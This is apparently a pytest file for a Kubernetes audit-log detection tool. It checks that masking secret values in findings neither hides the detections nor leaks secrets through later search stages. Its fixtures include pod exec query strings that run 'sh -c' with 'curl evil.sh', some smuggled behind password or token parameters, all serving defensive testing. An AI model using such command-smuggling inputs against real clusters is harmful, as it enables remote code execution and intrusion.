"""What is masked in a finding does not hide the finding."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from podhawk import api
from podhawk.content.model import Content
from support.findings import detection, event


@pytest.mark.parametrize(
    "query",
    [
        "command=sh&command=-c&command=password%3Dcurl+evil.sh",
        "command=sh&command=-c&command=password%3D%27a+%3B+curl+evil.sh%27",
        "command=sh&command=-c&command=--token%3Dx%3Bcurl+evil.sh",
        "token=curl+evil.sh&command=sh",
    ],
)
def test_a_command_behind_a_word_for_a_secret_was_hidden(query: str, tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    log.write_text(json.dumps(event("a0", requestURI=f"/api/v1/namespaces/shop/pods/p/exec?{query}")) + "\n")
    found = api.run(Content(detections=(detection('requestURI="*curl*" | table auditID requestURI'),)), log)
    assert [one.requests[0].audit_id for one in found] == ["a0"]
    assert "(redacted)" in found.found.findings[0].rows[0]["requestURI"]


HIDDEN = "command=sh&command=-c&command=password%3Dcurl+evil.sh"


def carried(one: dict[str, Any]) -> str:
    """The event as Splunk's HEC has it, which the fast path does not read."""
    return json.dumps({"event": one, "sourcetype": "kube:audit"})


@pytest.mark.parametrize("spelled", [json.dumps, carried])
@pytest.mark.parametrize(
    "search",
    [
        'requestURI="*curl*" | table auditID requestURI',
        'verb=create | where like(requestURI, "%curl%") | table auditID requestURI',
        'verb=create | eval t=if(match(requestURI, "curl"), requestURI, null()) | search t=* | stats count by t',
        'verb=create | eval n=if(match(requestURI, "curl"), 1, 0) | stats sum(n) as n by user.username | where n > 0',
        'verb=create | stats values(requestURI) as u count by user.username | where count > 0 AND like(u, "%curl%")',
        'verb=none | append [search verb=create | where like(requestURI, "%curl%") | table auditID requestURI]',
    ],
)
def test_a_later_stage_judged_masked_values(search: str, spelled: Callable[[Any], str], tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    plain = event("a0", requestURI=f"/api/v1/namespaces/shop/pods/p/exec?{HIDDEN}", verb="create")
    log.write_text(spelled(plain) + "\n")
    for jobs in (1, 2):
        result = api.run(Content(detections=(detection(search),)), log, jobs=jobs)
        records = json.dumps(result.records())
        assert len(result) == 1
        assert "curl" not in records


def test_what_is_shown_of_a_row_that_only_unmasked_events_give_holds_no_part_of_a_secret(tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    secret = {"kind": "Secret", "stringData": {"password": "correct-horse"}}
    log.write_text(json.dumps(event("a0", verb="create", requestObject=secret)) + "\n")
    search = (
        "verb=create | eval value='requestObject.stringData.password' | where value=\"correct-horse\""
        ' | eval upper=upper(value), part=substr(value, 1, 7), joined="p=".value'
        " | table auditID value upper part joined"
    )
    (found,) = api.run(Content(detections=(detection(search),)), log)
    (row,) = found.rows
    assert row == {"auditID": "a0"} | dict.fromkeys(("value", "upper", "part", "joined"), "(redacted)")


def test_a_name_in_a_masked_uri_took_itself_out_of_the_rows_and_so_out_of_the_risk(tmp_path: Path) -> None:
    """Whoever wrote his own name beside a secret, or into a Secret, was no risk object any more."""
    log = tmp_path / "audit.log"
    mallory = {"username": "mallory", "groups": ["system:authenticated"]}
    hidden = "/api/v1/namespaces/shop/pods/p/exec?command=mallory&command=--password%3Dhunter22"
    secret = {"kind": "Secret", "stringData": {"name": "mallory"}}
    events = [
        event("a0", verb="create", user=mallory, requestURI=hidden),
        event("a1", verb="create", requestObject=secret),
        event("a2", verb="create", user=mallory),
    ]
    log.write_text("".join(json.dumps(one) + "\n" for one in events))
    found = api.run(
        Content(detections=(detection("verb=create | stats count by user.username | where count > 1"),)), log
    )
    (one,) = (one for one in found if one.kind != "incident")
    assert [risk.value for risk in one.risk_objects] == ["mallory"]
    assert one.rows[0]["user.username"] == "mallory"
    assert {risk.object for risk in found.found.risk} == {"mallory"}


def test_eventstats_showed_the_secret_of_an_event_of_another_by_key(tmp_path: Path) -> None:
    """What anybody writes into a Secret takes no by-key out of the rows."""
    search = (
        "verb=create | eventstats values(responseObject.data.password) as seen by verb "
        "| stats count values(seen) as seen by user.username | where count < 9"
    )
    kept = [event(name, user={"username": name}) for name in ("alice-the-first", "bob")]
    words = ("c2VjcmV0LXZhbHVlLW9uZQ==", "alice-the-first")
    kept += [
        event(
            f"s{number}",
            user={"username": "mallory"},
            objectRef={"resource": "secrets", "namespace": "default", "name": "s"},
            responseObject={"kind": "Secret", "data": {"password": word}},
        )
        for number, word in enumerate(words)
    ]
    log = tmp_path / "audit.log"
    log.write_text("".join(json.dumps(one) + "\n" for one in kept))
    found = api.run(Content(detections=(detection(search),)), log, jobs=1, now="2026-11-25T12:00:00Z")
    rows = [row for one in found for row in one.rows if one.kind != "incident"]
    assert {row["user.username"] for row in rows} == {"alice-the-first", "bob", "mallory"}
    assert words[0] not in json.dumps(rows)


def test_requests_of_an_episode_stand_in_the_order_of_their_stages(tmp_path: Path) -> None:
    """Of two that were received at once, that alone in its instant stood first: it was alone in an increment, and not
    in one run over everything."""
    many = detection("verb=get | stats count by user.username | where count > 1", name="Many", id="m")
    log = tmp_path / "audit.log"
    alice, bob = {"username": "alice"}, {"username": "bob"}
    lines = [
        event("a", verb="get", user=alice, after=30.0),
        *(event(f"b{number}", verb="get", user=alice if number == 0 else bob, after=0.0) for number in range(2)),
    ]
    log.write_text("".join(json.dumps(one) + "\n" for one in lines))
    found = api.run(Content(detections=(many,)), log, jobs=1, now="2026-11-25T12:00:00Z")
    assert [one.audit_id for one in found.found.findings[0].requests] == ["b0", "a"]
